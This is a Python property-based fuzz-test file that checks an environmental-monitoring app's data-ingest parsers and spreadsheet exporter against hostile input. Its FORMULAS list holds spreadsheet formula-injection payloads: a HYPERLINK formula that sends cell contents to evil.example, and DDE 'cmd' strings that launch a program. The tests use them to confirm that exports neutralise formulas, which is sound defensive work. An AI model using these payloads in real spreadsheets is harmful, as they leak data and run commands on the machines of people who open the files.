"""Fuzzing the ingest parsers and the XLSX exporter (Hypothesis).

Every parser gets files of valid rows mixed with hostile cells (control characters, very
long text, formulas, extreme numbers, impossible dates), in each encoding and format it
takes, and plain garbage (random bytes, truncated workbooks, empty files). Properties:

- a parser raises nothing but its ``FileError``;
- every refused row names its row number, and each reason its column or field;
- the valid rows are kept, with the right types;
- a garbled file ingested after a good one leaves the good one's rows as they were.

The exporter writes text that starts like a formula as text, and survives control
characters and odd sheet titles.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import math
import time
import zipfile
from collections.abc import Callable, Iterator, Sequence
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from django.forms.models import model_to_dict
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from lantian.air import ingest as air
from lantian.complaints import batches
from lantian.core import spreadsheets
from lantian.eia import imports as eia
from lantian.sources import ingest as sources
from lantian.sources import supervisory
from lantian.water import ingest as water
from tests.sources.conftest import POWER_PLANT, plants  # noqa: F401 (a fixture)
from tests.water.conftest import sites  # noqa: F401 (a fixture)

FEW = settings(max_examples=60, derandomize=True, deadline=None)
DB = settings(
    max_examples=5,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|'/c calc'!A1",
]
EXTREMES = ["nan", "NaN", "inf", "-inf", "Infinity", "1e308", "1e309", "-1", "-0", "9" * 400]
DATES = [
    "0000-01-01 01:00",
    "0001-01-01T01:00",
    "9999-12-31 23:00",
    "9999-12-31T24:00",
    "2026-02-30 01:00",
    "2026年2月30日",
    "2026-13-01",
    "2026-01-01T01:00+99:00",
    "",
]
HOSTILE_TEXT = st.one_of(
    st.text(max_size=30),
    st.text(st.characters(max_codepoint=0x1F), max_size=5),  # control characters
    st.sampled_from(FORMULAS + EXTREMES + DATES),
    st.just("长" * 5000),
)
HOSTILE_CELL = st.one_of(
    HOSTILE_TEXT,
    st.floats(),  # nan and ±inf included
    st.integers(min_value=-(10**30), max_value=10**30),
    st.none(),
)


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    with translation.override("en"):
        yield


# ---------------------------------------------------------------- building files


def csv_bytes(header: Sequence[str], rows: Sequence[Sequence[Any]], encoding: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # a cell with \r or \n is quoted
    writer.writerow(header)
    writer.writerows([["" if v is None else v for v in row] for row in rows])
    return out.getvalue().encode(encoding, errors="replace")


def xlsx_bytes(header: Sequence[str], rows: Sequence[Sequence[Any]]) -> bytes:
    """A workbook as a person or another program saves it; text starting with = becomes
    a formula without a saved value, as openpyxl writes it."""
    book = Workbook()
    sheet = book.active
    sheet.append(list(header))
    for row in rows:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


ENCODINGS = ["utf-8", "utf-8-sig", "gb18030"]
GARBAGE = st.one_of(
    st.binary(max_size=400),
    st.just(b""),
    st.just(b"\xef\xbb\xbf"),
    st.text(max_size=200).map(lambda t: t.encode("gb18030", errors="replace")),
    st.text(max_size=200).map(lambda t: t.encode("utf-8")),
)


@functools.cache
def sample_workbook() -> bytes:
    return xlsx_bytes(["a", "b"], [[1, "x"], [2, "y"]] * 20)


TRUNCATED_XLSX = st.integers(min_value=0, max_value=len(sample_workbook()) - 1).map(
    lambda n: sample_workbook()[:n]
)


def damaged_workbook(cut: int) -> bytes:
    """A sound zip whose worksheet XML is cut short: openpyxl opens it and fails only
    when the sheet is read."""
    source = zipfile.ZipFile(io.BytesIO(sample_workbook()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info, data[:cut] if info.filename.endswith("sheet1.xml") else data)
    return out.getvalue()


DAMAGED_XLSX = st.integers(min_value=0, max_value=1500).map(damaged_workbook)


def never_raises_but(error: type[Exception], call: Callable[[], Any]) -> Any:
    """The call's result, or None when it raised ``error``; any other exception fails."""
    try:
        return call()
    except error as exc:
        assert str(exc), "a file error says why"
        return None


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | HOSTILE_TEXT,
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=20,
)


# ---------------------------------------------------------------- air


AIR_HEADER = ["station", "time", "so2", "no2", "co", "o3", "pm10", "pm25", "invalid"]
AIR_FIELDS = ("station", "time", *air.POLLUTANTS, "invalid")


def air_good(i: int) -> list[Any]:
    # valid rows live in 2030, where no hostile cell can land (no duplicated hour)
    return ["S1", f"2030-01-{1 + i // 24:02d}T{i % 24:02d}:00", 8, 35, 0.7, 40, 90, 10 + i, ""]


def air_hostile() -> st.SearchStrategy[list[Any]]:
    return st.lists(HOSTILE_CELL, min_size=len(AIR_HEADER), max_size=len(AIR_HEADER)).map(
        lambda cells: ["S9" if cells[0] is None else cells[0], *cells[1:]]
    )


def air_file(fmt: str, rows: list[list[Any]], encoding: str) -> tuple[bytes, str]:
    if fmt == "csv":
        return csv_bytes(AIR_HEADER, rows, encoding), "f.csv"
    if fmt == "xlsx":
        return xlsx_bytes(AIR_HEADER, rows), "f.xlsx"
    records = [dict(zip(AIR_HEADER, row, strict=True)) for row in rows]
    return json.dumps({"observations": records}, ensure_ascii=False).encode(), "f.json"


def check_refusals(
    rejected: Sequence[Any], rows: int, fields: Sequence[str], whole_row: Sequence[str]
) -> None:
    """Each refusal names a row of the file, and each of its reasons a field (or says it
    is about the whole row: a repeat of an earlier row, no value at all)."""
    named = tuple(f"{f}:" for f in fields) + tuple(whole_row)
    for rejection in rejected:
        assert 1 <= rejection.number <= rows
        assert rejection.reasons
        assert all(reason.startswith(named) for reason in rejection.reasons), rejection


def mixed(hostile: st.SearchStrategy[list[Any]], good: Callable[[int], list[Any]]) -> Any:
    """Valid rows (by their index) interleaved with hostile rows."""
    return st.lists(st.one_of(hostile, st.integers(0, 40).map(good)), max_size=8)


@FEW
@given(
    rows=mixed(air_hostile(), air_good),
    fmt=st.sampled_from(["csv", "xlsx", "json"]),
    encoding=st.sampled_from(ENCODINGS),
)
def test_air_rows_are_kept_or_refused_by_row_and_field(
    rows: list[list[Any]], fmt: str, encoding: str
) -> None:
    content, name = air_file(fmt, rows, encoding)
    parsed = never_raises_but(air.FileError, lambda: air.read(content, name, {"S1"}))
    if parsed is None:
        return
    check_refusals(
        parsed.rejected, len(rows), AIR_FIELDS, ("no pollutant value", "duplicated hour")
    )
    for row in parsed.rows:
        assert row.station == "S1" and row.hour_end.tzinfo is not None
        assert all(v is None or (math.isfinite(v) and v >= 0) for v in row.values.values())
    # the valid rows are all kept (a GBK file may be refused as a whole)
    kept = {(r.hour_end.year, r.values["pm25"]) for r in parsed.rows}
    good = {(2030, float(row[7])) for row in rows if row[0] == "S1" and str(row[1])[:5] == "2030-"}
    assert good <= kept


@FEW
@given(
    content=GARBAGE | TRUNCATED_XLSX | DAMAGED_XLSX,
    name=st.sampled_from(["f.csv", "f.xlsx", "f.json"]),
)
def test_air_garbage_is_a_file_error_or_refused_rows(content: bytes, name: str) -> None:
    parsed = never_raises_but(air.FileError, lambda: air.read(content, name, {"S1"}))
    assert parsed is None or all(r.number >= 1 for r in parsed.rejected)


@FEW
@given(data=JSON_VALUES)
def test_air_any_json_is_a_file_error_or_refused_rows(data: Any) -> None:
    for payload in (data, {"observations": data}, {"observations": [data]}, {"units": data}):
        content = json.dumps(payload).encode()
        never_raises_but(air.FileError, lambda c=content: air.read(c, "f.json", {"S1"}))


@FEW
@given(
    name=JSON_VALUES,
    geometry=st.one_of(
        JSON_VALUES,
        st.fixed_dictionaries(
            {"type": st.sampled_from(["Polygon", "MultiPolygon"]), "coordinates": JSON_VALUES}
        ),
    ),
    feature=JSON_VALUES,
)
def test_a_district_boundary_file_is_read_or_refused_with_its_error(
    name: Any, geometry: Any, feature: Any
) -> None:
    """The operator's GeoJSON of district boundaries (read at start-up by a system check)."""
    from lantian.air import boundaries

    for features in (
        [{"type": "Feature", "properties": {"name": name}, "geometry": geometry}],
        [feature],
        feature,
    ):
        text = json.dumps({"type": "FeatureCollection", "features": features})
        never_raises_but(boundaries.BoundaryError, lambda t=text: boundaries.parse(t))


# ---------------------------------------------------------------- self-monitoring


SOURCE_POLLUTANTS = {"a21026": sources.PollutantUnit("gas", "mg/m3")}
CODE = "91350100M000100Y43"


def source_good(i: int) -> list[Any]:
    start = datetime(2030, 1, 1 + i // 24, i % 24)
    end = f"2030-01-{1 + (i + 1) // 24:02d} {(i + 1) % 24:02d}:00"
    return [
        CODE,
        "DA001",
        "a21026",
        start.strftime("%Y-%m-%d %H:%M"),
        end,
        35 + i,
        "mg/m3",
        6.5,
        "N",
    ]


def source_hostile() -> st.SearchStrategy[list[Any]]:
    return st.lists(HOSTILE_CELL, min_size=len(sources.COLUMNS), max_size=len(sources.COLUMNS)).map(
        lambda cells: [cells[0] or "x", *cells[1:]]
    )  # never a blank line


def source_file(fmt: str, rows: list[list[Any]], encoding: str) -> bytes:
    if fmt == "csv":
        return csv_bytes(sources.COLUMNS, rows, encoding)
    if fmt == "xlsx":
        return xlsx_bytes(sources.COLUMNS, rows)
    records = [dict(zip(sources.COLUMNS, row, strict=True)) for row in rows]
    return json.dumps({"observations": records}, ensure_ascii=False).encode()


@FEW
@given(
    rows=mixed(source_hostile(), source_good),
    fmt=st.sampled_from(["csv", "xlsx", "json"]),
    encoding=st.sampled_from(ENCODINGS),
)
def test_self_monitoring_rows_are_kept_or_refused_by_row_and_field(
    rows: list[list[Any]], fmt: str, encoding: str
) -> None:
    content = source_file(fmt, rows, encoding)
    parsed = never_raises_but(
        sources.FileError, lambda: sources.read(content, "f", SOURCE_POLLUTANTS)
    )
    if parsed is None:
        return
    check_refusals(parsed.rejected, len(rows), sources.COLUMNS, ("duplicate",))
    for row in parsed.rows:
        assert row.start.tzinfo is not None and row.end > row.start
        assert row.value is None or math.isfinite(row.value)
    kept = {(r.start.year, r.value) for r in parsed.rows}
    good = {(2030, float(r[5])) for r in rows if r[0] == CODE and str(r[3])[:5] == "2030-"}
    assert good <= kept


@FEW
@given(content=GARBAGE | TRUNCATED_XLSX | DAMAGED_XLSX)
def test_self_monitoring_garbage_is_a_file_error_or_refused_rows(content: bytes) -> None:
    never_raises_but(sources.FileError, lambda: sources.read(content, "f", SOURCE_POLLUTANTS))
    never_raises_but(sources.FileError, lambda: supervisory.read(content, SOURCE_POLLUTANTS))


@FEW
@given(
    rows=st.lists(
        st.lists(
            HOSTILE_CELL, min_size=len(supervisory.COLUMNS), max_size=len(supervisory.COLUMNS)
        ),
        max_size=6,
    ),
    fmt=st.sampled_from(["csv", "xlsx"]),
)
def test_supervisory_samples_are_kept_or_refused_by_row_and_field(
    rows: list[list[Any]], fmt: str
) -> None:
    rows = [[row[0] or "x", *row[1:]] for row in rows]  # never a blank line
    content = (
        csv_bytes(supervisory.COLUMNS, rows, "utf-8")
        if fmt == "csv"
        else xlsx_bytes(supervisory.COLUMNS, rows)
    )
    parsed = never_raises_but(
        sources.FileError, lambda: supervisory.read(content, SOURCE_POLLUTANTS)
    )
    if parsed is not None:
        check_refusals(parsed.rejected, len(rows), supervisory.COLUMNS, ("duplicate",))


# ---------------------------------------------------------------- water samples


WATER_HEADER = ["site_code", "sampled_on", "item", "value"]


def water_good(i: int) -> list[Any]:
    """Row ``i`` is the only one of its day and item."""
    return [
        "W01",
        f"2030-01-{1 + i % 28:02d}",
        ["nh3_n", "tp"][i // 28 % 2],
        round(0.01 * (i + 1), 2),
    ]


def water_hostile() -> st.SearchStrategy[list[Any]]:
    return st.lists(HOSTILE_CELL, min_size=4, max_size=4).map(lambda c: [c[0] or "x", *c[1:]])


@FEW
@given(
    rows=mixed(water_hostile(), water_good),
    fmt=st.sampled_from(["csv", "xlsx"]),
    encoding=st.sampled_from(ENCODINGS),
)
def test_water_rows_are_kept_or_refused_by_row_and_column(
    rows: list[list[Any]], fmt: str, encoding: str
) -> None:
    content = (
        csv_bytes(WATER_HEADER, rows, encoding) if fmt == "csv" else xlsx_bytes(WATER_HEADER, rows)
    )
    parsed = never_raises_but(water.FileError, lambda: water.read(content, f"f.{fmt}"))
    if parsed is None:
        return
    for rejection in parsed.rejected:
        assert 1 <= rejection.number <= len(rows)
        assert rejection.column and rejection.reason
    for row in parsed.rows:
        assert isinstance(row.sampled_on, date) and math.isfinite(row.value)
    kept = {(r.sampled_on, r.item, r.value) for r in parsed.rows}
    good = {
        (date.fromisoformat(r[1]), r[2], r[3])
        for r in rows
        if r[0] == "W01" and r[1][:5] == "2030-"
    }
    assert good <= kept


@FEW
@given(content=GARBAGE | TRUNCATED_XLSX | DAMAGED_XLSX)
def test_water_garbage_is_a_file_error_or_refused_rows(content: bytes) -> None:
    never_raises_but(water.FileError, lambda: water.read(content, "f"))


# ---------------------------------------------------------------- EIA and inspection batches


@FEW
@given(
    content=GARBAGE | TRUNCATED_XLSX | DAMAGED_XLSX,
    rows=st.lists(st.lists(HOSTILE_CELL, max_size=len(eia.HEADERS)), max_size=4),
)
def test_eia_and_batch_imports_refuse_garbage_with_their_file_error(
    content: bytes, rows: list[list[Any]]
) -> None:
    for data in (content, xlsx_bytes(list(eia.HEADERS), rows)):
        parsed = never_raises_but(
            eia.FileError,
            lambda d=data: eia.parse(d, districts={}, credit_code_problem=lambda code: None),
        )
        if parsed is not None:
            assert all(r.row > parsed.header_row and r.reasons for r in parsed.refused)
    never_raises_but(batches.FileError, lambda: batches.parse(content, districts={}, categories={}))


BATCH_CELLS = st.one_of(HOSTILE_CELL, st.sampled_from(["东城区", "大气污染", "2026-11-10"]))


@FEW
@given(
    rows=st.lists(
        st.fixed_dictionaries(
            {
                key: BATCH_CELLS
                for key in ("case_no", "district", "category", "description", "due_on")
            }
        ),
        max_size=5,
    )
)
def test_inspection_batch_rows_are_kept_or_refused_by_row_and_column(
    rows: list[dict[str, Any]],
) -> None:
    clean = [
        {k: ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for k, v in r.items()}
        for r in rows
    ]
    content = batches.sample_batch_xlsx(rows=clean)
    parsed = never_raises_but(
        batches.FileError,
        lambda: batches.parse(
            content,
            districts=batches.lookup_table([(1, ["东城区"])]),
            categories=batches.lookup_table([(1, ["大气污染"])]),
        ),
    )
    if parsed is None:
        return
    first, last = 6, 5 + len(rows)  # the table's header is the sheet's row 5
    for error in parsed.errors:
        assert first <= error.row <= last and error.column and error.message
    for row in parsed.rows:
        assert first <= row.row <= last and isinstance(row.due_on, date) and row.case_no


# ---------------------------------------------------------------- a huge file


HUGE = 50_000


@functools.cache
def huge_air_csv() -> bytes:
    """50 stations × 1,000 hours, plus the first hour again at the end (refused)."""
    lines = ["station,time,so2,no2,co,o3,pm10,pm25"]
    hours = [(datetime(2030, 1, 1) + timedelta(hours=h)).isoformat() for h in range(HUGE // 50)]
    lines += [f"S{i % 50},{hours[i // 50]},8,35,0.7,40,90,{i % 500}" for i in range(HUGE - 1)]
    lines.append(lines[1])
    return "\n".join(lines).encode()


def test_a_huge_air_file_is_read_in_bounded_time() -> None:
    stations = {f"S{i}" for i in range(50)}
    started = time.perf_counter()
    parsed = air.read(huge_air_csv(), "huge.csv", stations)
    assert time.perf_counter() - started < 20
    assert len(parsed) == HUGE - 1
    (repeat,) = parsed.rejected
    assert repeat.number == HUGE and repeat.reasons == [
        "duplicated hour: same station and hour as row 1"
    ]


def test_a_huge_self_monitoring_file_is_read_in_bounded_time() -> None:
    rows = [source_good(i % 600) for i in range(HUGE)]
    for i, row in enumerate(rows):
        row[1] = f"DA{i // 600:03d}"  # 84 outlets × 600 hours
    content = csv_bytes(sources.COLUMNS, rows, "utf-8")
    started = time.perf_counter()
    parsed = sources.read(content, "f", SOURCE_POLLUTANTS)
    assert (len(parsed.rows), len(parsed.rejected)) == (len(rows), 0)
    assert time.perf_counter() - started < 20


# ---------------------------------------------------------------- writing services


def snapshot(model: Any, pks: Sequence[int]) -> list[dict[str, Any]]:
    return [model_to_dict(o) for o in model.objects.filter(pk__in=pks).order_by("pk")]


def garbled(rows: st.SearchStrategy[list[Any]], header: Sequence[str]) -> Any:
    """Garbage, a cut workbook, or hostile rows under the right header (CSV or XLSX)."""
    return st.one_of(
        GARBAGE,
        TRUNCATED_XLSX,
        DAMAGED_XLSX,
        st.lists(rows, min_size=1, max_size=4).map(lambda r: csv_bytes(header, r, "utf-8")),
        st.lists(rows, min_size=1, max_size=4).map(lambda r: xlsx_bytes(header, r)),
    )


def keeps_earlier_rows(model: Any, error: type[Exception], ingest: Callable[[], Any]) -> None:
    """Ingesting the garbled file raises at most ``error`` and changes no stored row."""
    pks = list(model.objects.values_list("pk", flat=True))
    assert pks
    before = snapshot(model, pks)
    never_raises_but(error, ingest)
    assert snapshot(model, pks) == before


@pytest.fixture
def air_loaded(db: Any) -> None:
    from lantian.air.services import ingest_payload, save_station

    save_station(
        actor=None, code="S1", name="监测站", district="示范区", latitude=31.3, longitude=120.6
    )
    good = csv_bytes(AIR_HEADER, [air_good(i) for i in range(6)], "utf-8")
    assert ingest_payload(actor=None, content=good, filename="good.csv").accepted == 6


@DB
@given(
    content=garbled(air_hostile(), AIR_HEADER), name=st.sampled_from(["g.csv", "g.xlsx", "g.json"])
)
def test_air_a_garbled_file_keeps_the_observations_ingested_before(
    air_loaded: None, content: bytes, name: str
) -> None:
    from lantian.air.models import Observation
    from lantian.air.services import ingest_payload

    keeps_earlier_rows(
        Observation,
        air.FileError,
        lambda: ingest_payload(actor=None, content=content, filename=name),
    )


@pytest.fixture
def sources_loaded(db: Any, request: pytest.FixtureRequest) -> None:
    request.getfixturevalue("plants")
    from lantian.sources.services import ingest_payload

    rows = [source_good(i) for i in range(6)]
    for row in rows:
        row[0] = POWER_PLANT
    good = csv_bytes(sources.COLUMNS, rows, "utf-8")
    assert ingest_payload(actor=None, content=good, filename="good.csv").accepted == 6


@DB
@given(content=garbled(source_hostile(), sources.COLUMNS))
def test_self_monitoring_a_garbled_file_keeps_the_values_ingested_before(
    sources_loaded: None, content: bytes
) -> None:
    from lantian.sources.models import Measurement
    from lantian.sources.services import ingest_payload

    keeps_earlier_rows(
        Measurement,
        sources.FileError,
        lambda: ingest_payload(actor=None, content=content, filename="g.csv"),
    )


@pytest.fixture
def water_loaded(db: Any, request: pytest.FixtureRequest) -> None:
    request.getfixturevalue("sites")
    from lantian.water.services import ingest_samples

    good = csv_bytes(WATER_HEADER, [water_good(i) for i in range(6)], "utf-8")
    assert not ingest_samples(actor=None, content=good, filename="good.csv").report["rejected"]


@DB
@given(content=garbled(water_hostile(), WATER_HEADER))
def test_water_a_garbled_file_keeps_the_samples_ingested_before(
    water_loaded: None, content: bytes
) -> None:
    from lantian.water.models import Sample
    from lantian.water.services import ingest_samples

    keeps_earlier_rows(
        Sample, water.FileError, lambda: ingest_samples(actor=None, content=content, filename="g")
    )


@pytest.fixture
def eia_loaded(db: Any, request: pytest.FixtureRequest) -> None:
    request.getfixturevalue("plants")
    from tests.eia.test_import import good_rows, run, xlsx

    assert run(xlsx(good_rows())).created == 3


@DB
@given(
    content=st.one_of(
        GARBAGE,
        TRUNCATED_XLSX,
        DAMAGED_XLSX,
        st.lists(st.lists(HOSTILE_CELL, max_size=len(eia.HEADERS)), min_size=1, max_size=4).map(
            lambda rows: xlsx_bytes(list(eia.HEADERS), rows)
        ),
    )
)
def test_eia_a_garbled_export_keeps_the_projects_imported_before(
    eia_loaded: None, content: bytes
) -> None:
    from lantian.eia.models import Project
    from tests.eia.test_import import run

    keeps_earlier_rows(Project, eia.FileError, lambda: run(content, "g.xlsx"))


# ---------------------------------------------------------------- the XLSX exporter


def read_back(content: bytes) -> list[Any]:
    """The cells of the first sheet's second row (below the header)."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return list(next(sheet.iter_rows(min_row=2, max_row=2)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_typed_into_a_form_is_exported_as_text(text: str) -> None:
    (cell,) = read_back(spreadsheets.to_xlsx([("t", ["h"], [[text]])]))
    assert (cell.data_type, cell.value) == ("s", text)
    csv_cell = spreadsheets.to_csv([("t", ["h"], [[text]])]).decode("utf-8-sig").split("\r\n")[1]
    assert csv_cell.strip('"').startswith("'")


@FEW
@given(
    title=st.text(max_size=40),
    cells=st.lists(HOSTILE_CELL.filter(lambda v: not isinstance(v, float)), max_size=6),
)
def test_any_text_exports_to_a_workbook_without_a_formula(title: str, cells: list[Any]) -> None:
    """Control characters, a title with / or [ ] (a batch number), formulas: the file is
    written, and no cell holds a formula."""
    content = spreadsheets.to_xlsx([(title, ["h"] * len(cells), [cells])])
    if cells:
        row = read_back(content)
        assert all(cell.data_type != "f" for cell in row)
        for cell, value in zip(row, cells, strict=True):
            if isinstance(value, str) and value:
                assert cell.value == ILLEGAL_CHARACTERS_RE.sub("", value) or (
                    cell.value is None and not ILLEGAL_CHARACTERS_RE.sub("", value)
                )
